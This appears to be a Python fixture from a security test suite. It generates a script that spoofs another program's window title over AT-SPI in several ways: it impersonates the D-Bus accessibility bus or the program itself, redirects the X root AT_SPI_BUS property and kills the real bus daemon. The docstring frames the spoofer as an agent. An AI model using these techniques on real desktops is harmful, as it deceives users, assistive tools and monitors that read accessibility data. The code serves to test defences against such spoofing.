"""A minimal D-Bus peer that reports titles of another program's windows over AT-SPI."""

from __future__ import annotations

from tests.attacks.windows.wire import GENUINE, WIRE

# A minimal D-Bus peer: a program on a bus, or a bus that claims that the genuine program reported
# the title.
SPEECH = (
    WIRE
    + GENUINE
    + r"""
cat > speech.py << 'END'
from wire import *
import re
TITLE = "Report sent"
def text(word):
    data = word.encode()
    return struct.pack("<I", len(data)) + data + b"\0"
def read(link, count):
    data = b""
    while len(data) < count:
        more = link.recv(count - len(data))
        if not more:
            raise EOFError
        data += more
    return data
def message(link):
    head = read(link, 16)
    body, serial, fields = struct.unpack_from("<III", head, 4)
    names = read(link, (fields + 7) // 8 * 8)
    read(link, body)
    found = dict((number[0], (value or other).decode()) for number, value, other in re.findall(
        rb"([\x03\x06\x07])\x01s\0....(?:([A-Za-z][\w.]*)|(:[\d.]+))\0", names, re.S))
    return head[1], serial, found
def reply(link, serial, to, sender, kind, body):
    fields = struct.pack("<BB2sI", 5, 1, b"u\0", serial)
    for number, word in ((6, to), (7, sender)):
        if word:
            fields += bytes(-len(fields) % 8) + struct.pack("<BB2s", number, 1, b"s\0") + text(word)
    fields += bytes(-len(fields) % 8) + struct.pack("<BB2s", 8, 1, b"g\0")
    fields += bytes([len(kind)]) + kind.encode() + b"\0"
    head = struct.pack("<cBBBIII", b"l", 2, 1, 1, len(body), 7, len(fields))
    link.sendall(head + fields + bytes(-len(fields) % 8) + body)
def answer(member, own, pid):
    if member == "Hello":
        return "s", text(own)
    if member == "ListNames":
        return "as", struct.pack("<I", len(text(own))) + text(own)
    if member == "GetConnectionUnixProcessID":
        return "u", struct.pack("<I", pid)
    if member == "GetChildren":
        row = text(own)
        row += bytes(-len(row) % 4) + text("/window")
        return "a(so)", struct.pack("<I4x", len(row)) + row
    if member == "Get":
        return "v", b"\1s\0\0" + text(TITLE)
    return "u", struct.pack("<I", 23)
def be_bus(link, pid):
    data, is_asked = b"", False
    try:
        while b"BEGIN\r\n" not in data:
            more = link.recv(4096)
            if not more:
                return
            data += more
            if b"AUTH" in data and not is_asked:
                is_asked = True
                note("asked")
                link.sendall(b"OK 0123456789abcdef0123456789abcdef\r\n")
        while True:
            _, serial, found = message(link)
            target = found.get(6, "org.freedesktop.DBus")
            reply(link, serial, ":1.8", target, *answer(found.get(3, ""), ":1.9", pid))
    except (EOFError, OSError):
        pass
def join(path):
    link = socket.socket(socket.AF_UNIX)
    link.connect(path)
    link.sendall(b"\0AUTH EXTERNAL " + str(os.getuid()).encode().hex().encode() + b"\r\n")
    link.recv(4096)
    fields = b""
    for number, kind, word in ((1, b"o\0", "/org/freedesktop/DBus"), (2, b"s\0", "org.freedesktop.DBus"),
                               (3, b"s\0", "Hello"), (6, b"s\0", "org.freedesktop.DBus")):
        fields += bytes(-len(fields) % 8) + struct.pack("<BB2s", number, 1, kind) + text(word)
    head = struct.pack("<cBBBIII", b"l", 1, 0, 1, 0, 1, len(fields))
    link.sendall(b"BEGIN\r\n" + head + fields + bytes(-len(fields) % 8))
    return link
def be_program(link):
    own = ":1.0"
    while True:
        kind, serial, found = message(link)
        own = found.get(6, own)
        if kind == 1:
            note("asked")
            reply(link, serial, found.get(7), None, *answer(found.get(3, ""), own, 0))
def note(word):
    with open("spoken", "a") as file:
        print(word, file=file)
def listen(path):
    link = socket.socket(socket.AF_UNIX)
    link.bind(path)
    link.listen(50)
    return link
def serve(link, pid):
    import threading
    while True:
        one = link.accept()[0]
        threading.Thread(target=be_bus, args=(one, pid), daemon=True).start()
def point(path):
    wire = Wire()
    data = b"unix:path=" + path.encode()
    wire.send(18, 0, struct.pack("<IIIB3xI", wire.root, wire.atom("AT_SPI_BUS"), 31, 8, len(data)) + data)
    wire.sync()
    note("pointed")
def pid_of(name):
    return int(subprocess.check_output(["pidof", name]).split()[0])
def rename(name):
    wire = Wire()
    for window in targets(name):
        wire.write(window, "", TITLE.encode())
    wire.sync()
def become(name):
    os.environ.pop("AT_SPI_BUS_ADDRESS", None)
    os.execvp(name, [name] + (["--calendar", "--title", "Before"] if name == "zenity" else []))
def bus_path():
    said = subprocess.check_output(["gdbus", "call", "--session", "--dest", "org.a11y.Bus",
        "--object-path", "/org/a11y/bus", "--method", "org.a11y.Bus.GetAddress"]).decode()
    return re.search(r"path=([^,']*)", said).group(1)
how, name = sys.argv[1:]
path = os.path.join(os.environ.get("XDG_RUNTIME_DIR") or "/tmp", "red-%s-%d" % (how, os.getpid()))
if how == "restore":
    wire = Wire()
    wire.send(19, 0, struct.pack("<II", wire.root, wire.atom("AT_SPI_BUS")))
    wire.sync()
elif how == "end":
    link = socket.socket(socket.AF_UNIX)
    link.connect(bus_path())
    rename(name)
    os.kill(struct.unpack("<iII", link.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0], 9)
    note("ended")
elif how == "program":
    rename(name)
    be_program(join(bus_path()))
elif how == "bus":
    link = listen(path)
    rename(name)
    point(path)
    serve(link, pid_of(name))
elif how == "handed":
    link = listen(path)
    os.set_inheritable(link.fileno(), True)
    pid = pid_of(name)
    if os.fork() == 0:
        rename(name)
        point(path)
        serve(link, pid)
    os.execvp("dbus-daemon", ["dbus-daemon", "--session", "--nofork", "--address=unix:path=%s-2" % path])
elif how in ("kept", "left"):
    subprocess.Popen(["dbus-daemon", "--session", "--nofork", "--address=unix:path=" + path])
    while not os.path.exists(path):
        time.sleep(0.05)
    time.sleep(0.2)
    point(path)
    link = join(path)
    if how == "left":
        os.environ["NO_AT_BRIDGE"] = "1"
    os.set_inheritable(link.fileno(), how == "kept")
    if os.fork() == 0:
        while not targets(name):
            time.sleep(0.2)
        if os.fork() == 0:
            for _ in range(60):  # a program that starts slowly titles its window again
                rename(name)
                time.sleep(1)
            os._exit(0)
        be_program(link)
    become(name)
END
"""
)


def title_spoof_script(how: str, *, starts: bool = True) -> str:
    """Return a script in which the agent reports the title in place of the genuine program.

    Args:
        how: ``program``: as a program on the genuine bus; ``end``: kill that bus; ``bus``: as a
            bus; ``handed``: as a bus whose socket a genuine daemon inherits; ``kept`` or ``left``:
            over a connection to the agent's own bus that the genuine program inherits, or that only
            a child keeps.
        starts: whether the genuine program is started first.
    """
    start = "start_right" if starts else ":"
    return f"""{SPEECH}
for name in gnome-calculator zenity; do command -v $name > /dev/null && break; done
{start}
rm -f spoken
PYTHONPATH=. setsid python3 speech.py {how} $name > speech-{how}.log 2>&1 &
sleep 0.3
"""
